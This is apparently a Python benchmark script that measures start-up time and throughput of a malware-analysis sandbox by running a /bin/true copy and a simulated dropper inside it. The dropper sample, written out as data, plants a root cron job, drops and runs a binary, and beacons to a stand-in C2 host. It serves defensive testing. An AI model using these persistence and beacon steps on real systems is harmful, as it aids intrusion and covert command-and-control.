#!/usr/bin/env python3
"""quell-sandbox throughput and start-up: the built binary, real namespaces, cgroups, seccomp,
fake network and tracer, on this machine.

1. Start-up: --runs detonations of a small ELF (a copy of /bin/true); the report's startupMs is
   the time from the supervisor's start to the sample's execve returning, i.e. to the first
   instruction of the sample. Also the whole process's wall time per sample.
2. Throughput: samples analysed per minute with 1 and with --parallel concurrent supervisors,
   for two samples: the /bin/true copy and a script that behaves like a dropper (cron write,
   drop + run a binary, a DNS lookup, a TCP connection with bytes), each run to completion.

Run as root:
    BUILD_DIR=build /usr/bin/python3 bench/sandbox/sandbox_bench.py
Prints a summary and one JSON line (also appended to --json-out if given).
"""

import argparse
import concurrent.futures
import json
import os
import shutil
import statistics
import subprocess
import sys
import tempfile
import time

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

DROPPER = b"""#!/bin/sh
echo '* * * * * root /tmp/dropper' > /etc/cron.d/bench
cp /bin/true /tmp/dropper
chmod +x /tmp/dropper
/tmp/dropper
python3 - <<'PY'
import socket
ip = socket.gethostbyname("c2.bench.example")
s = socket.create_connection((ip, 443), timeout=3)
s.sendall(b"BEACON")
s.close()
PY
"""


def sandbox_binary(build_dir):
    path = os.path.join(build_dir, "src", "sandbox", "quell-sandbox")
    if not os.access(path, os.X_OK):
        sys.exit(f"{path} not found: build first (ninja -C {build_dir} quell-sandbox)")
    return path


def detonate(binary, sample, work):
    report = tempfile.mktemp(dir=work, suffix=".json")
    started = time.monotonic()
    r = subprocess.run([binary, "--sample", sample, "--report", report],
                       capture_output=True, text=True, timeout=300)
    wall = time.monotonic() - started
    if r.returncode != 0:
        raise RuntimeError(f"quell-sandbox exited {r.returncode}: {r.stderr[-500:]}")
    with open(report) as f:
        data = json.load(f)
    os.unlink(report)
    return data, wall


def throughput(binary, sample, work, count, parallel):
    started = time.monotonic()
    with concurrent.futures.ThreadPoolExecutor(max_workers=parallel) as pool:
        verdicts = list(pool.map(lambda _: detonate(binary, sample, work)[0]["verdict"],
                                 range(count)))
    elapsed = time.monotonic() - started
    return count / elapsed * 60, verdicts


def pct(values, p):
    values = sorted(values)
    return values[min(len(values) - 1, int(round(p / 100 * (len(values) - 1))))]


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--runs", type=int, default=20, help="start-up samples")
    ap.add_argument("--count", type=int, default=20, help="samples per throughput run")
    ap.add_argument("--parallel", type=int, default=2, help="concurrent supervisors")
    ap.add_argument("--json-out")
    args = ap.parse_args()
    if os.geteuid() != 0:
        sys.exit("run as root: the sandbox makes namespaces and cgroups")
    binary = sandbox_binary(os.environ.get("BUILD_DIR", os.path.join(ROOT, "build")))

    work = tempfile.mkdtemp(prefix="quell-sandbox-bench-")
    try:
        elf = os.path.join(work, "true-copy")
        shutil.copyfile("/bin/true", elf)
        os.chmod(elf, 0o755)
        dropper = os.path.join(work, "dropper.sh")
        with open(dropper, "wb") as f:
            f.write(DROPPER)

        detonate(binary, elf, work)  # warm the page cache
        startup, walls = [], []
        for _ in range(args.runs):
            report, wall = detonate(binary, elf, work)
            startup.append(report["startupMs"])
            walls.append(wall * 1000)

        results = {
            "startup_ms_p50": pct(startup, 50), "startup_ms_p95": pct(startup, 95),
            "startup_ms_max": max(startup),
            "wall_ms_per_elf_p50": round(pct(walls, 50), 1),
        }
        for name, sample in (("elf", elf), ("dropper", dropper)):
            for parallel in (1, args.parallel):
                per_min, verdicts = throughput(binary, sample, work, args.count, parallel)
                results[f"{name}_per_minute_x{parallel}"] = round(per_min, 1)
                results[f"{name}_verdicts"] = sorted(set(verdicts))
    finally:
        shutil.rmtree(work, ignore_errors=True)

    print(f"start-up to the sample's first instruction: p50 {results['startup_ms_p50']} ms, "
          f"p95 {results['startup_ms_p95']} ms, max {results['startup_ms_max']} ms "
          f"({args.runs} runs); whole process p50 {results['wall_ms_per_elf_p50']} ms")
    for name in ("elf", "dropper"):
        print(f"{name}: {results[f'{name}_per_minute_x1']} samples/min one at a time, "
              f"{results[f'{name}_per_minute_x{args.parallel}']} with {args.parallel} at once "
              f"(verdicts {results[f'{name}_verdicts']})")
    line = json.dumps({"bench": "sandbox", "time": time.strftime("%Y-%m-%dT%H:%M:%SZ",
                                                                  time.gmtime()), **results})
    print(line)
    if args.json_out:
        with open(args.json_out, "a") as f:
            f.write(line + "\n")


if __name__ == "__main__":
    main()
